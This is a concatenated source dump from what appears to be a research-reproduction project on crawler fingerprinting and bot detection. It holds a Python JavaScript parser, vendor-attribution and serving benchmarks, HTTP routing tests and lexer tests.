    # Entry point
    # ------------------------------------------------------------------
    def parse_program(self) -> ast.Program:
        body: List[ast.Node] = []
        while self.current.kind != "eof":
            body.append(self.parse_statement())
        return ast.Program(body=body, source=self.source, line=1, column=1)

    # ------------------------------------------------------------------
    # Statements
    # ------------------------------------------------------------------
    def parse_statement(self) -> ast.Node:
        token = self.current
        if token.kind == "punct":
            if token.value == "{":
                return self.parse_block()
            if token.value == ";":
                self.advance()
                return ast.EmptyStatement(**self._pos(token))
        if token.kind == "keyword":
            handler = {
                "var": self._parse_variable_statement,
                "let": self._parse_variable_statement,
                "const": self._parse_variable_statement,
                "function": self._parse_function_declaration,
                "if": self._parse_if,
                "while": self._parse_while,
                "do": self._parse_do_while,
                "for": self._parse_for,
                "return": self._parse_return,
                "break": self._parse_break,
                "continue": self._parse_continue,
                "throw": self._parse_throw,
                "try": self._parse_try,
                "switch": self._parse_switch,
            }.get(token.value)
            if handler is not None:
                return handler()
        expression = self.parse_expression()
        self._consume_semicolon()
        return ast.ExpressionStatement(expression=expression,
                                       **self._pos(token))

    def parse_block(self) -> ast.BlockStatement:
        token = self.expect("punct", "{")
        body: List[ast.Node] = []
        while not self.current.matches("punct", "}"):
            if self.current.kind == "eof":
                raise ParseError("unterminated block", self.current)
            body.append(self.parse_statement())
        self.expect("punct", "}")
        return ast.BlockStatement(body=body, **self._pos(token))

    def _parse_variable_statement(self) -> ast.VariableDeclaration:
        node = self._parse_variable_declaration()
        self._consume_semicolon()
        return node

    def _parse_variable_declaration(self) -> ast.VariableDeclaration:
        token = self.advance()  # var/let/const
        declarations = []
        while True:
            name = self.expect("ident").value
            init: Optional[ast.Node] = None
            if self.accept("punct", "="):
                init = self.parse_assignment()
            declarations.append((name, init))
            if not self.accept("punct", ","):
                break
        return ast.VariableDeclaration(kind=token.value,
                                       declarations=declarations,
                                       **self._pos(token))

    def _parse_function_declaration(self) -> ast.FunctionDeclaration:
        token = self.current
        function = self._parse_function_expression(require_name=True)
        return ast.FunctionDeclaration(function=function, **self._pos(token))

    def _parse_function_expression(self,
                                   require_name: bool = False
                                   ) -> ast.FunctionExpression:
        start = self.expect("keyword", "function")
        name = ""
        if self.current.kind == "ident":
            name = self.advance().value
        elif require_name:
            raise ParseError("function declaration requires a name",
                             self.current)
        params = self._parse_parameter_list()
        body = self.parse_block()
        end = self.tokens[self.pos - 1]  # the closing '}'
        source = self.source[start.start:end.end]
        return ast.FunctionExpression(name=name, params=params,
                                      body=body.body, source=source,
                                      **self._pos(start))

    def _parse_parameter_list(self) -> List[str]:
        self.expect("punct", "(")
        params: List[str] = []
        while not self.current.matches("punct", ")"):
            params.append(self.expect("ident").value)
            if not self.accept("punct", ","):
                break
        self.expect("punct", ")")
        return params

    def _parse_if(self) -> ast.IfStatement:
        token = self.expect("keyword", "if")
        self.expect("punct", "(")
        test = self.parse_expression()
        self.expect("punct", ")")
        consequent = self.parse_statement()
        alternate: Optional[ast.Node] = None
        if self.accept("keyword", "else"):
            alternate = self.parse_statement()
        return ast.IfStatement(test=test, consequent=consequent,
                               alternate=alternate, **self._pos(token))

    def _parse_while(self) -> ast.WhileStatement:
        token = self.expect("keyword", "while")
        self.expect("punct", "(")
        test = self.parse_expression()
        self.expect("punct", ")")
        body = self.parse_statement()
        return ast.WhileStatement(test=test, body=body, **self._pos(token))

    def _parse_do_while(self) -> ast.DoWhileStatement:
        token = self.expect("keyword", "do")
        body = self.parse_statement()
        self.expect("keyword", "while")
        self.expect("punct", "(")
        test = self.parse_expression()
        self.expect("punct", ")")
        self._consume_semicolon()
        return ast.DoWhileStatement(body=body, test=test, **self._pos(token))

    def _parse_for(self) -> ast.Node:
        token = self.expect("keyword", "for")
        self.expect("punct", "(")

        # for (;;) — empty init
        if self.current.matches("punct", ";"):
            return self._parse_for_classic(token, init=None)

        if self.current.kind == "keyword" and self.current.value in (
                "var", "let", "const"):
            kind = self.current.value
            # Lookahead for `for (let x in obj)` / `for (let x of arr)`.
            after_name = self.peek(2)
            if self.peek(1).kind == "ident" and after_name.kind == "keyword" \
                    and after_name.value in ("in", "of"):
                self.advance()  # kind
                name = self.advance().value
                of = self.advance().value == "of"
                obj = self.parse_expression()
                self.expect("punct", ")")
                body = self.parse_statement()
                return ast.ForInStatement(kind=kind, name=name, object=obj,
                                          body=body, of=of, **self._pos(token))
            init: ast.Node = self._parse_variable_declaration()
            return self._parse_for_classic(token, init=init)

        # `for (x in obj)` with a pre-declared variable.
        if self.current.kind == "ident" and self.peek(1).kind == "keyword" \
                and self.peek(1).value in ("in", "of"):
            name = self.advance().value
            of = self.advance().value == "of"
            obj = self.parse_expression()
            self.expect("punct", ")")
            body = self.parse_statement()
            return ast.ForInStatement(kind="", name=name, object=obj,
                                      body=body, of=of, **self._pos(token))

        init = ast.ExpressionStatement(expression=self.parse_expression(),
                                       **self._pos(token))
        return self._parse_for_classic(token, init=init)

    def _parse_for_classic(self, token: Token,
                           init: Optional[ast.Node]) -> ast.ForStatement:
        self.expect("punct", ";")
        test: Optional[ast.Node] = None
        if not self.current.matches("punct", ";"):
            test = self.parse_expression()
        self.expect("punct", ";")
        update: Optional[ast.Node] = None
        if not self.current.matches("punct", ")"):
            update = self.parse_expression()
        self.expect("punct", ")")
        body = self.parse_statement()
        return ast.ForStatement(init=init, test=test, update=update,
                                body=body, **self._pos(token))

    def _parse_return(self) -> ast.ReturnStatement:
        token = self.expect("keyword", "return")
        argument: Optional[ast.Node] = None
        if not (self.current.matches("punct", ";")
                or self.current.matches("punct", "}")
                or self.current.kind == "eof"
                or self.current.newline_before):
            argument = self.parse_expression()
        self._consume_semicolon()
        return ast.ReturnStatement(argument=argument, **self._pos(token))

    def _parse_break(self) -> ast.BreakStatement:
        token = self.expect("keyword", "break")
        self._consume_semicolon()
        return ast.BreakStatement(**self._pos(token))

    def _parse_continue(self) -> ast.ContinueStatement:
        token = self.expect("keyword", "continue")
        self._consume_semicolon()
        return ast.ContinueStatement(**self._pos(token))

    def _parse_throw(self) -> ast.ThrowStatement:
        token = self.expect("keyword", "throw")
        argument = self.parse_expression()
        self._consume_semicolon()
        return ast.ThrowStatement(argument=argument, **self._pos(token))

    def _parse_try(self) -> ast.TryStatement:
        token = self.expect("keyword", "try")
        block = self.parse_block()
        catch_param: Optional[str] = None
        catch_block: Optional[ast.BlockStatement] = None
        finally_block: Optional[ast.BlockStatement] = None
        if self.accept("keyword", "catch"):
            if self.accept("punct", "("):
                catch_param = self.expect("ident").value
                self.expect("punct", ")")
            catch_block = self.parse_block()
        if self.accept("keyword", "finally"):
            finally_block = self.parse_block()
        if catch_block is None and finally_block is None:
            raise ParseError("try requires catch or finally", self.current)
        return ast.TryStatement(block=block, catch_param=catch_param,
                                catch_block=catch_block,
                                finally_block=finally_block,
                                **self._pos(token))

    def _parse_switch(self) -> ast.SwitchStatement:
        token = self.expect("keyword", "switch")
        self.expect("punct", "(")
        discriminant = self.parse_expression()
        self.expect("punct", ")")
        self.expect("punct", "{")
        cases: List[ast.SwitchCase] = []
        seen_default = False
        while not self.current.matches("punct", "}"):
            case_token = self.current
            if self.accept("keyword", "case"):
                test: Optional[ast.Node] = self.parse_expression()
            elif self.accept("keyword", "default"):
                if seen_default:
                    raise ParseError("multiple default clauses",
                                     case_token)
                seen_default = True
                test = None
            else:
                raise ParseError("expected 'case' or 'default'",
                                 self.current)
            self.expect("punct", ":")
            body: List[ast.Node] = []
            while not (self.current.matches("punct", "}")
                       or self.current.matches("keyword", "case")
                       or self.current.matches("keyword", "default")):
                body.append(self.parse_statement())
            cases.append(ast.SwitchCase(test=test, body=body,
                                        **self._pos(case_token)))
        self.expect("punct", "}")
        return ast.SwitchStatement(discriminant=discriminant, cases=cases,
                                   **self._pos(token))

    # ------------------------------------------------------------------
    # Expressions
    # ------------------------------------------------------------------
    def parse_expression(self) -> ast.Node:
        token = self.current
        expression = self.parse_assignment()
        if self.current.matches("punct", ","):
            expressions = [expression]
            while self.accept("punct", ","):
                expressions.append(self.parse_assignment())
            return ast.SequenceExpression(expressions=expressions,
                                          **self._pos(token))
        return expression

    def parse_assignment(self) -> ast.Node:
        arrow = self._try_parse_arrow()
        if arrow is not None:
            return arrow
        token = self.current
        left = self._parse_conditional()
        if self.current.kind == "punct" and self.current.value in _ASSIGN_OPS:
            op = self.advance().value
            if not isinstance(left, (ast.Identifier, ast.MemberExpression)):
                raise ParseError("invalid assignment target", token)
            value = self.parse_assignment()
            return ast.AssignmentExpression(op=op, target=left, value=value,
                                            **self._pos(token))
        return left

    def _try_parse_arrow(self) -> Optional[ast.FunctionExpression]:
        """Parse ``x => ...`` or ``(a, b) => ...`` if present."""
        token = self.current
        if token.kind == "ident" and self.peek(1).matches("punct", "=>"):
            start = self.advance()
            self.expect("punct", "=>")
            return self._finish_arrow([start.value], start)
        if token.matches("punct", "(") and self._scan_arrow_params():
            start = self.advance()  # '('
            params: List[str] = []
            while not self.current.matches("punct", ")"):
                params.append(self.expect("ident").value)
                if not self.accept("punct", ","):
                    break
            self.expect("punct", ")")
            self.expect("punct", "=>")
            return self._finish_arrow(params, token)
        return None

    def _scan_arrow_params(self) -> bool:
        """Lookahead: does '(' start a parenthesised arrow parameter list?"""
        index = self.pos + 1
        depth = 1
        while index < len(self.tokens):
            tok = self.tokens[index]
            if tok.matches("punct", "("):
                depth += 1
            elif tok.matches("punct", ")"):
                depth -= 1
                if depth == 0:
                    following = self.tokens[min(index + 1,
                                                len(self.tokens) - 1)]
                    return following.matches("punct", "=>")
            elif tok.kind == "eof":
                return False
            elif depth == 1 and not (
                    tok.kind == "ident" or tok.matches("punct", ",")):
                return False
            index += 1
        return False

    def _finish_arrow(self, params: List[str],
                      start: Token) -> ast.FunctionExpression:
        if self.current.matches("punct", "{"):
            body = self.parse_block().body
        else:
            expression = self.parse_assignment()
            body = [ast.ReturnStatement(argument=expression,
                                        line=expression.line,
                                        column=expression.column)]
        end = self.tokens[self.pos - 1]
        source = self.source[start.start:end.end]
        return ast.FunctionExpression(name="", params=params, body=body,
                                      source=source, is_arrow=True,
                                      **self._pos(start))

    def _parse_conditional(self) -> ast.Node:
        token = self.current
        test = self._parse_binary(0)
        if self.accept("punct", "?"):
            consequent = self.parse_assignment()
            self.expect("punct", ":")
            alternate = self.parse_assignment()
            return ast.ConditionalExpression(test=test, consequent=consequent,
                                             alternate=alternate,
                                             **self._pos(token))
        return test

    def _parse_binary(self, min_precedence: int) -> ast.Node:
        token = self.current
        left = self._parse_unary()
        while True:
            current = self.current
            op: Optional[str] = None
            if current.kind == "punct" and current.value in ("&&", "||"):
                precedence = 1 if current.value == "||" else 2
                if precedence < min_precedence:
                    return left
                self.advance()
                right = self._parse_binary(precedence + 1)
                left = ast.LogicalExpression(op=current.value, left=left,
                                             right=right, **self._pos(token))
                continue
            if current.kind == "punct" and current.value in _BINARY_PRECEDENCE:
                op = current.value
            elif current.kind == "keyword" and current.value in (
                    "instanceof", "in"):
                op = current.value
            if op is None:
                return left
            precedence = _BINARY_PRECEDENCE[op]
            if precedence < min_precedence:
                return left
            self.advance()
            # '**' is right-associative; all others left-associative.
            next_min = precedence if op == "**" else precedence + 1
            right = self._parse_binary(next_min)
            left = ast.BinaryExpression(op=op, left=left, right=right,
                                        **self._pos(token))

    def _parse_unary(self) -> ast.Node:
        token = self.current
        if token.kind == "punct" and token.value in ("!", "-", "+", "~"):
            self.advance()
            operand = self._parse_unary()
            return ast.UnaryExpression(op=token.value, operand=operand,
                                       **self._pos(token))
        if token.kind == "keyword" and token.value in ("typeof", "delete", "void"):
            self.advance()
            operand = self._parse_unary()
            return ast.UnaryExpression(op=token.value, operand=operand,
                                       **self._pos(token))
        if token.kind == "punct" and token.value in ("++", "--"):
            self.advance()
            target = self._parse_unary()
            return ast.UpdateExpression(op=token.value, target=target,
                                        prefix=True, **self._pos(token))
        return self._parse_postfix()

    def _parse_postfix(self) -> ast.Node:
        token = self.current
        expression = self._parse_call_member()
        if self.current.kind == "punct" and self.current.value in ("++", "--") \
                and not self.current.newline_before:
            op = self.advance().value
            return ast.UpdateExpression(op=op, target=expression,
                                        prefix=False, **self._pos(token))
        return expression

    def _parse_call_member(self) -> ast.Node:
        if self.current.matches("keyword", "new"):
            return self._parse_new()
        expression = self._parse_primary()
        return self._parse_call_member_tail(expression)

    def _parse_new(self) -> ast.Node:
        token = self.expect("keyword", "new")
        if self.current.matches("keyword", "new"):
            callee: ast.Node = self._parse_new()
        else:
            callee = self._parse_primary()
        # Member accesses bind to the constructor expression.
        while True:
            if self.accept("punct", "."):
                name = self._expect_property_name()
                callee = ast.MemberExpression(object=callee, property=name,
                                              computed=False,
                                              **self._pos(token))
            elif self.accept("punct", "["):
                prop = self.parse_expression()
                self.expect("punct", "]")
                callee = ast.MemberExpression(object=callee, property=prop,
                                              computed=True,
                                              **self._pos(token))
            else:
                break
        arguments: List[ast.Node] = []
        if self.current.matches("punct", "("):
            arguments = self._parse_arguments()
        node: ast.Node = ast.NewExpression(callee=callee, arguments=arguments,
                                           **self._pos(token))
        return self._parse_call_member_tail(node)

    def _expect_property_name(self) -> str:
        token = self.current
        if token.kind in ("ident", "keyword"):
            self.advance()
            return token.value
        raise ParseError("expected property name", token)

    def _parse_call_member_tail(self, expression: ast.Node) -> ast.Node:
        while True:
            token = self.current
            if self.accept("punct", "."):
                name = self._expect_property_name()
                expression = ast.MemberExpression(object=expression,
                                                  property=name,
                                                  computed=False,
                                                  **self._pos(token))
            elif self.accept("punct", "["):
                prop = self.parse_expression()
                self.expect("punct", "]")
                expression = ast.MemberExpression(object=expression,
                                                  property=prop,
                                                  computed=True,
                                                  **self._pos(token))
            elif self.current.matches("punct", "("):
                arguments = self._parse_arguments()
                expression = ast.CallExpression(callee=expression,
                                                arguments=arguments,
                                                **self._pos(token))
            else:
                return expression

    def _parse_arguments(self) -> List[ast.Node]:
        self.expect("punct", "(")
        arguments: List[ast.Node] = []
        while not self.current.matches("punct", ")"):
            arguments.append(self.parse_assignment())
            if not self.accept("punct", ","):
                break
        self.expect("punct", ")")
        return arguments

    def _parse_primary(self) -> ast.Node:
        token = self.current
        if token.kind == "number":
            self.advance()
            return ast.NumberLiteral(value=token.number, **self._pos(token))
        if token.kind == "string":
            self.advance()
            return ast.StringLiteral(value=token.value, **self._pos(token))
        if token.kind == "ident":
            self.advance()
            return ast.Identifier(name=token.value, **self._pos(token))
        if token.kind == "keyword":
            if token.value in ("true", "false"):
                self.advance()
                return ast.BooleanLiteral(value=token.value == "true",
                                          **self._pos(token))
            if token.value == "null":
                self.advance()
                return ast.NullLiteral(**self._pos(token))
            if token.value == "undefined":
                self.advance()
                return ast.UndefinedLiteral(**self._pos(token))
            if token.value == "this":
                self.advance()
                return ast.ThisExpression(**self._pos(token))
            if token.value == "function":
                return self._parse_function_expression()
        if token.matches("punct", "("):
            self.advance()
            expression = self.parse_expression()
            self.expect("punct", ")")
            return expression
        if token.matches("punct", "["):
            return self._parse_array_literal()
        if token.matches("punct", "{"):
            return self._parse_object_literal()
        raise ParseError("unexpected token", token)

    def _parse_array_literal(self) -> ast.ArrayLiteral:
        token = self.expect("punct", "[")
        elements: List[ast.Node] = []
        while not self.current.matches("punct", "]"):
            elements.append(self.parse_assignment())
            if not self.accept("punct", ","):
                break
        self.expect("punct", "]")
        return ast.ArrayLiteral(elements=elements, **self._pos(token))

    def _parse_object_literal(self) -> ast.ObjectLiteral:
        token = self.expect("punct", "{")
        entries = []
        accessors = []
        while not self.current.matches("punct", "}"):
            key_token = self.current
            # Accessor shorthand: {get name() {...}, set name(v) {...}}
            if key_token.kind == "ident" \
                    and key_token.value in ("get", "set") \
                    and self.peek(1).kind in ("ident", "keyword", "string"):
                kind = self.advance().value
                name_token = self.advance()
                start = key_token
                params = self._parse_parameter_list()
                body = self.parse_block()
                end = self.tokens[self.pos - 1]
                source = self.source[start.start:end.end]
                fn = ast.FunctionExpression(
                    name=f"{kind} {name_token.value}", params=params,
                    body=body.body, source=source, **self._pos(start))
                accessors.append((name_token.value, kind, fn))
                if not self.accept("punct", ","):
                    break
                continue
            if key_token.kind in ("ident", "keyword"):
                key = key_token.value
                self.advance()
            elif key_token.kind == "string":
                # String keys become property-dict keys; intern them so
                # repeated literals across a corpus share one object
                # (ident keys are already interned by the lexer).
                key = sys.intern(key_token.value)
                self.advance()
            elif key_token.kind == "number":
                key = sys.intern(str(int(key_token.number))
                                 if key_token.number.is_integer()
                                 else str(key_token.number))
                self.advance()
            else:
                raise ParseError("expected property key", key_token)

            if self.current.matches("punct", "("):
                # Method shorthand: {foo() { ... }}
                start = key_token
                params = self._parse_parameter_list()
                body = self.parse_block()
                end = self.tokens[self.pos - 1]
                source = self.source[start.start:end.end]
                value: ast.Node = ast.FunctionExpression(
                    name=key, params=params, body=body.body, source=source,
                    **self._pos(start))
            elif self.current.matches("punct", ":"):
                self.advance()
                value = self.parse_assignment()
            elif key_token.kind == "ident":
                # Shorthand property: {a, b}
                value = ast.Identifier(name=key, **self._pos(key_token))
            else:
                raise ParseError("expected ':'", self.current)
            entries.append((key, value))
            if not self.accept("punct", ","):
                break
        self.expect("punct", "}")
        return ast.ObjectLiteral(entries=entries, accessors=accessors,
                                 **self._pos(token))


def parse(source: str) -> ast.Program:
    """Parse JS source text into an AST."""
    return Parser(source).parse_program()

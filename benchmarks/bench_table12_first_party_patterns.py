"""Table 12: first-party detector vendors by URL-structure similarity."""

from conftest import BENCH_SITES, report

PAPER_PER_100K = {"Akamai": 1004, "Incapsula": 998, "Unknown": 659,
                  "Cloudflare": 486, "PerimeterX": 134}


def test_benchmark_table12(benchmark, bench_world, bench_scan):
    table12 = benchmark(bench_scan.table12)
    planted = {vendor: len(domains) for vendor, domains
               in bench_world.ground_truth.first_party_by_vendor().items()}

    scale = BENCH_SITES / 100_000
    lines = [f"(scale: {BENCH_SITES} sites)", "",
             "| vendor | attributed | planted | paper (per 100K) |",
             "|---|---|---|---|"]
    for vendor, per_100k in PAPER_PER_100K.items():
        lines.append(f"| {vendor} | {table12.get(vendor, 0)} | "
                     f"{planted.get(vendor, 0)} | {per_100k} |")
    lines.append(f"| Custom | {table12.get('Custom', 0)} | "
                 f"{planted.get('Custom', 0)} | (one-offs) |")
    report("table12_first_party_patterns",
           "Table 12 - first-party detector vendors", lines)

    # URL-signature attribution recovers the planted vendors.
    for vendor in PAPER_PER_100K:
        assert table12.get(vendor, 0) <= planted.get(vendor, 0)
    attributed_total = sum(table12.get(v, 0) for v in PAPER_PER_100K)
    planted_total = sum(planted.get(v, 0) for v in PAPER_PER_100K)
    assert attributed_total >= planted_total * 0.8
    # Ordering: Akamai and Incapsula dominate, PerimeterX is smallest
    # (sampling noise permitting at reduced scale).
    if planted.get("Akamai", 0) > 3 and planted.get("PerimeterX", 0) >= 0:
        assert table12.get("Akamai", 0) >= table12.get("PerimeterX", 0)

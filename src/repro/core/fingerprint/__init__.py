"""Fingerprint surface analysis (paper Sec. 3)."""

from repro.core.fingerprint.template import Template, capture_template
from repro.core.fingerprint.probes import ProbeResults, run_probes
from repro.core.fingerprint.surface import (
    FingerprintSurface,
    SurfaceDelta,
    diff_templates,
    measure_surface,
)
from repro.core.fingerprint.detector import (
    DetectionReport,
    OpenWPMDetector,
)

__all__ = [
    "Template",
    "capture_template",
    "ProbeResults",
    "run_probes",
    "FingerprintSurface",
    "SurfaceDelta",
    "diff_templates",
    "measure_surface",
    "OpenWPMDetector",
    "DetectionReport",
]

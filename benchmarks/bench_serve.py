"""Serving layer: query throughput and rollup maintenance cost.

Two pins guard the tentpole's performance claims:

* the response cache must be worth its complexity — cached answers at
  least 10x the throughput of rebuilding every payload from the
  rollups ("cold" = cache capacity 0, every request re-renders inside
  its own read transaction);
* incremental rollup maintenance must be close to free for the
  writer — under 5% CPU on a full telemetered crawl, measured with
  the same subprocess-isolated alternating-pair protocol as the
  flight-recorder guard (fresh interpreter per pair, per-mode minimum
  so co-tenant noise only pushes estimates down toward the truth).
"""

import gc
import json
import os
import subprocess
import sys
import time

from conftest import BENCH_SEED, report

CACHE_SPEEDUP_MIN = 10.0
MAINTENANCE_OVERHEAD_LIMIT_PCT = 5.0


def _make_crawl_db(tmp_path, sites=2000):
    from repro.obs.runner import run_telemetry_crawl

    db_path = str(tmp_path / "bench.db")
    result = run_telemetry_crawl(
        site_count=sites, seed=BENCH_SEED, database_path=db_path,
        crash_probability=0.05, browsers=2, web="lab")
    result.close()
    return db_path


def _request_mix(server):
    mix = [("/aggregates/totals", ""), ("/aggregates/symbols", ""),
           ("/aggregates/resources", ""), ("/aggregates/cookies", ""),
           ("/aggregates/crashes", ""),
           ("/aggregates/drop_reasons", ""), ("/sites", "")]
    listing = json.loads(server.respond("/sites").body)
    mix += [("/site", f"url={url}") for url in listing["sites"][:5]]
    return mix


def _qps(server, mix, total=3000):
    for path, query in mix:  # warm caches and per-thread connections
        assert server.respond(path, query).status == 200
    gc.collect()
    start = time.perf_counter()
    for i in range(total):
        path, query = mix[i % len(mix)]
        server.respond(path, query)
    return total / (time.perf_counter() - start)


def test_benchmark_serve_query_throughput(benchmark, tmp_path):
    from repro.serve import ResultServer

    db_path = _make_crawl_db(tmp_path)

    def measure():
        cold = ResultServer(db_path, cache_capacity=0)
        cached = ResultServer(db_path)
        try:
            mix = _request_mix(cold)
            return {"cold_qps": _qps(cold, mix),
                    "cached_qps": _qps(cached, mix),
                    "endpoints": len(mix)}
        finally:
            cold.close()
            cached.close()

    result = benchmark.pedantic(measure, rounds=1, iterations=1)
    speedup = result["cached_qps"] / result["cold_qps"]

    lines = [
        "(the generation-keyed response cache must buy >=10x the",
        "throughput of re-rendering every payload per request;",
        f"{result['endpoints']}-endpoint request mix over a 2000-site "
        "crawl database)",
        "",
        "| mode | queries/second |",
        "|---|---|",
        f"| cold (cache disabled) | {result['cold_qps']:,.0f} |",
        f"| cached | {result['cached_qps']:,.0f} |",
        f"| speedup | {speedup:.1f}x |",
    ]
    report("serve", "Serving - query throughput, cold vs cached",
           lines)

    assert speedup >= CACHE_SPEEDUP_MIN, result


#: Measurement worker, fresh interpreter per pair. argv: order
#: ("01" = maintenance-off first), site_count, seed. The workload is
#: the full telemetered lab crawl writing to a file-backed database —
#: the exact write path the rollup hooks ride.
_MAINTENANCE_WORKER = r'''
import gc, json, os, shutil, sys, tempfile, time

order, sites, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])

def timed(maintained):
    os.environ["REPRO_ROLLUPS"] = "on" if maintained else "off"
    from repro.obs.runner import run_telemetry_crawl
    tmp = tempfile.mkdtemp(prefix="bench-serve-")
    gc.collect()
    start = time.process_time()
    result = run_telemetry_crawl(
        site_count=sites, seed=seed, crash_probability=0.05,
        database_path=os.path.join(tmp, "crawl.db"))
    elapsed = time.process_time() - start
    result.close()
    shutil.rmtree(tmp, ignore_errors=True)
    return elapsed

timed(True)  # warm-up, discarded
out = {}
for mode in order:
    maintained = mode == "1"
    out["on" if maintained else "off"] = timed(maintained)
print(json.dumps(out))
'''


def measure_maintenance_overhead(site_count=1000, min_pairs=5,
                                 max_pairs=12, settle_pct=4.0):
    import repro

    env = dict(os.environ)
    src_dir = os.path.dirname(
        os.path.dirname(os.path.abspath(repro.__file__)))
    env["PYTHONPATH"] = src_dir + os.pathsep + env.get("PYTHONPATH", "")

    on = off = float("inf")
    pairs = 0
    for pairs in range(1, max_pairs + 1):
        order = "01" if pairs % 2 else "10"
        proc = subprocess.run(
            [sys.executable, "-c", _MAINTENANCE_WORKER, order,
             str(site_count), str(BENCH_SEED)],
            capture_output=True, text=True, env=env, check=True)
        sample = json.loads(proc.stdout.strip().splitlines()[-1])
        off = min(off, sample["off"])
        on = min(on, sample["on"])
        overhead = (on - off) / off * 100.0 if off else 0.0
        if pairs >= min_pairs and overhead < settle_pct:
            break
    return {"sites": site_count, "rounds": pairs,
            "maintained_seconds": on, "baseline_seconds": off,
            "overhead_pct": (on - off) / off * 100.0 if off else 0.0}


def test_benchmark_rollup_maintenance_overhead(benchmark):
    result = benchmark.pedantic(
        lambda: measure_maintenance_overhead(site_count=1000),
        rounds=1, iterations=1)

    lines = [
        "(incremental rollup maintenance must cost <5% CPU on a",
        "full telemetered 1000-site crawl)",
        "",
        f"| mode | CPU seconds (best of {result['rounds']}"
        " subprocess-isolated pairs) |",
        "|---|---|",
        f"| maintenance off | {result['baseline_seconds']:.3f} |",
        f"| maintenance on | {result['maintained_seconds']:.3f} |",
        f"| overhead | {result['overhead_pct']:.2f}% |",
    ]
    report("serve_maintenance",
           "Serving - rollup maintenance CPU overhead", lines)

    assert result["overhead_pct"] < MAINTENANCE_OVERHEAD_LIMIT_PCT, \
        result

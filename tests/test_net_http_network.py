"""Unit tests for HTTP messages, cookies-on-the-wire, and routing."""

import pytest

from repro.net.http import HttpRequest, HttpResponse, ResourceType, SetCookie
from repro.net.network import ClientIdentity, FunctionServer, Network
from repro.net.url import URL


def make_request(url, **kwargs):
    return HttpRequest(url=URL.parse(url), **kwargs)


CLIENT = ClientIdentity(client_id="c1")


class TestMessages:
    def test_request_ids_unique(self):
        a = make_request("https://x.test/")
        b = make_request("https://x.test/")
        assert a.request_id != b.request_id

    def test_third_party_by_etld(self):
        request = make_request("https://cdn.tracker.com/p.gif",
                               top_frame_url=URL.parse("https://site.com/"))
        assert request.is_third_party()

    def test_same_site_subdomain_is_first_party(self):
        request = make_request("https://static.site.com/x.js",
                               top_frame_url=URL.parse("https://site.com/"))
        assert not request.is_third_party()

    def test_redirect_detection(self):
        assert HttpResponse.redirect("/next").is_redirect
        assert not HttpResponse(status=200).is_redirect

    def test_set_cookie_header_value(self):
        cookie = SetCookie("sid", "abc", max_age=60, http_only=True)
        header = cookie.header_value()
        assert "sid=abc" in header
        assert "Max-Age=60" in header
        assert "HttpOnly" in header

    def test_session_cookie(self):
        assert SetCookie("a", "b").is_session
        assert not SetCookie("a", "b", max_age=1).is_session

    def test_resource_type_universe_matches_table8(self):
        assert set(ResourceType.ALL) >= {
            "csp_report", "media", "beacon", "websocket", "xmlhttprequest",
            "imageset", "font", "object", "main_frame", "image", "script",
            "sub_frame", "other", "stylesheet"}


class TestRouting:
    def test_unknown_host_404(self):
        network = Network()
        response, hops = network.fetch(make_request("https://ghost.test/"),
                                       CLIENT)
        assert response.status == 404
        assert len(hops) == 1

    def test_domain_covers_subdomains(self):
        network = Network()
        network.register_domain("example.com", FunctionServer(
            lambda r, c, n: HttpResponse(body="apex")))
        response, _ = network.fetch(
            make_request("https://deep.www.example.com/"), CLIENT)
        assert response.body == "apex"

    def test_most_specific_domain_wins(self):
        network = Network()
        network.register_domain("example.com", FunctionServer(
            lambda r, c, n: HttpResponse(body="apex")))
        network.register_domain("cdn.example.com", FunctionServer(
            lambda r, c, n: HttpResponse(body="cdn")))
        response, _ = network.fetch(
            make_request("https://cdn.example.com/x"), CLIENT)
        assert response.body == "cdn"
        response, _ = network.fetch(
            make_request("https://www.example.com/x"), CLIENT)
        assert response.body == "apex"

    def test_exact_host_beats_domain(self):
        network = Network()
        network.register_domain("example.com", FunctionServer(
            lambda r, c, n: HttpResponse(body="domain")))
        network.register_host("api.example.com", FunctionServer(
            lambda r, c, n: HttpResponse(body="host")))
        response, _ = network.fetch(
            make_request("https://api.example.com/"), CLIENT)
        assert response.body == "host"

    def test_redirects_followed_and_recorded(self):
        network = Network()

        def serve(request, client, net):
            if request.url.path == "/start":
                return HttpResponse.redirect("/mid")
            if request.url.path == "/mid":
                return HttpResponse.redirect("https://other.test/end")
            return HttpResponse(body="landed")

        network.register_domain("example.com", FunctionServer(serve))
        network.register_domain("other.test", FunctionServer(
            lambda r, c, n: HttpResponse(body="other-landed")))
        response, hops = network.fetch(
            make_request("https://example.com/start"), CLIENT)
        assert response.body == "other-landed"
        assert [str(h.request.url) for h in hops] == [
            "https://example.com/start", "https://example.com/mid",
            "https://other.test/end"]

    def test_redirect_loop_bounded(self):
        network = Network()
        network.register_domain("loop.test", FunctionServer(
            lambda r, c, n: HttpResponse.redirect("/again")))
        response, hops = network.fetch(make_request("https://loop.test/"),
                                       CLIENT)
        assert response.status == 508
        assert len(hops) == Network.MAX_REDIRECTS

    def test_state_blackboard_shared(self):
        network = Network()
        network.state["provider"]["flagged"] = True
        assert network.state["provider"]["flagged"] is True

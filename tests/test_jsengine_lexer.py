"""Unit tests for the JS lexer."""

import pytest

from repro.jsengine.lexer import LexError, Lexer


def tokens_of(source):
    return [(t.kind, t.value) for t in Lexer(source).tokenize()
            if t.kind != "eof"]


class TestBasicTokens:
    def test_identifiers_and_keywords(self):
        assert tokens_of("var foo") == [("keyword", "var"), ("ident", "foo")]

    def test_dollar_and_underscore_identifiers(self):
        assert tokens_of("$x _y") == [("ident", "$x"), ("ident", "_y")]

    def test_numbers(self):
        tokens = Lexer("1 2.5 0x10 1e3 1.5e-2").tokenize()
        values = [t.number for t in tokens if t.kind == "number"]
        assert values == [1.0, 2.5, 16.0, 1000.0, 0.015]

    def test_punctuator_longest_match(self):
        assert tokens_of("===") == [("punct", "===")]
        assert tokens_of("==!") == [("punct", "=="), ("punct", "!")]
        assert tokens_of(">>>") == [("punct", ">>>")]

    def test_arrow_token(self):
        assert ("punct", "=>") in tokens_of("x => x")

    def test_unexpected_character_raises(self):
        with pytest.raises(LexError):
            Lexer("var §").tokenize()


class TestStrings:
    def test_single_and_double_quotes(self):
        assert tokens_of("'a' \"b\"") == [("string", "a"), ("string", "b")]

    def test_backtick_plain_template(self):
        assert tokens_of("`hi`") == [("string", "hi")]

    def test_template_interpolation_desugars_to_concat(self):
        tokens = tokens_of("`a${x}b`")
        assert tokens == [
            ("punct", "("), ("string", "a"), ("punct", "+"),
            ("punct", "("), ("ident", "x"), ("punct", ")"),
